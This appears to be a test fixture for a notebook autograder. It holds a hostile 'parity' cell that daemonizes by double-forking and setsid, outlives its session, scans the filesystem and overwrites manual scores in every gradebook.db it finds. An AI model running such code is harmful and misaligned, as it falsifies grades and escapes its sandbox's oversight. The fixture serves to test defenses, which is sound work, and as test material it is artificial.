"""A process leaves its session and parent, waits until the cell is over, and writes into all gradebooks it finds."""

from tests.hostile.bank import ALL, UNSOLVED

KIND = "gradebook"
LOSES = ALL
CELLS = UNSOLVED | {"parity": '''
import subprocess, sys
later = """
import os, sqlite3, time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
while True:
    time.sleep(0.2)
    for place, folders, names in os.walk("/"):
        if "gradebook.db" in names:
            sqlite3.connect(place + "/gradebook.db").execute("update grade set manual_score = 4").connection.commit()
"""
subprocess.run([sys.executable, "-c", later])
'''}
